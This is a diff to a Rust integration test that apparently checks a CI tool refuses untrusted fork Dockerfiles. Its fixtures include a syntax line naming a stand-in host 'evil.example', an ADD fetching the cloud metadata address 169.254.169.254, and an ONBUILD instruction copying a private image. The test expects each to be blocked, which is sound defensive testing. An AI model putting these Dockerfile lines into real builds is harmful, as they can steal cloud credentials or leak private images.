@@ -414,8 +414,8 @@ fn what_a_fork_may_build_upon() {
     let local = format!("flowgate-test-fork-{}:local", std::process::id());
     place.folder.write("local/Dockerfile", from_base("RUN echo private > /made\n"));
     docker(&["build", "--quiet", "--network", "none", "--tag", &local, "local"], place.folder.path());
-    let refused = |parts: &[&str]| {
-        let done = act(&place, &fork, &[]);
+    let refused = |parts: &[&str], inputs: &[(&str, &str)]| {
+        let done = act(&place, &fork, inputs);
         assert_eq!(done.code, Some(4), "{done:?}");
         parts.iter().for_each(|part| assert!(done.stdout.contains(part), "{part}: {}", done.stdout));
     };
@@ -427,12 +427,12 @@ fn what_a_fork_may_build_upon() {
         format!("ARG X={local}\nFROM $X\n"),
     ] {
         place.folder.write("docker/Dockerfile", dockerfile);
-        refused(&only_here);
+        refused(&only_here, &[]);
     }
     place.folder.write("docker/Dockerfile", "# syntax=evil.example/front:1\nFROM x\n");
-    refused(&["line 1: `syntax=evil.example/front:1`", "SECURITY.md"]);
+    refused(&["line 1: `syntax=evil.example/front:1`", "SECURITY.md"], &[]);
     place.folder.write("docker/Dockerfile", from_base("ADD http://169.254.169.254/latest /made\n"));
-    refused(&["line 3: `ADD http://169.254.169.254/latest` may fetch from the network"]);
+    refused(&["line 3: `ADD http://169.254.169.254/latest` may fetch from the network"], &[]);
 
     // What a registry gives to everybody, and what it gives to its users only: an image without a file.
     let empty = format!("flowgate-test-fork-{}:empty", std::process::id());
@@ -446,7 +446,15 @@ fn what_a_fork_may_build_upon() {
         docker(&["tag", &empty, &name], place.folder.path());
         docker(&["--config", "docker.json", "push", "--quiet", &name], place.folder.path());
         place.folder.write("docker/Dockerfile", format!("FROM {name}\n"));
-        refused(&[parts]);
+        let not_allowed = format!("`{}` is not an allowed registry", registry.address);
+        refused(&[&not_allowed], &[]);
+        refused(&[parts], &[("INPUT_REGISTRIES", &registry.address)]);
+        if !protected {
+            // Its instructions would run in this build, unread.
+            docker(&["import", "--change", "ONBUILD COPY --from=private / /", "empty.tar", &name], place.folder.path());
+            docker(&["--config", "docker.json", "push", "--quiet", &name], place.folder.path());
+            refused(&["has ONBUILD instructions"], &[("INPUT_REGISTRIES", &registry.address)]);
+        }
         place.engine.ask("DELETE", &format!("/images/{name}"));
     }
 
@@ -459,6 +467,6 @@ fn what_a_fork_may_build_upon() {
 
     // The flow itself names it.
     flow(&place, "flow", &local, "");
-    refused(&only_here);
+    refused(&only_here, &[]);
     place.engine.ask("DELETE", &format!("/images/{local}"));
 }
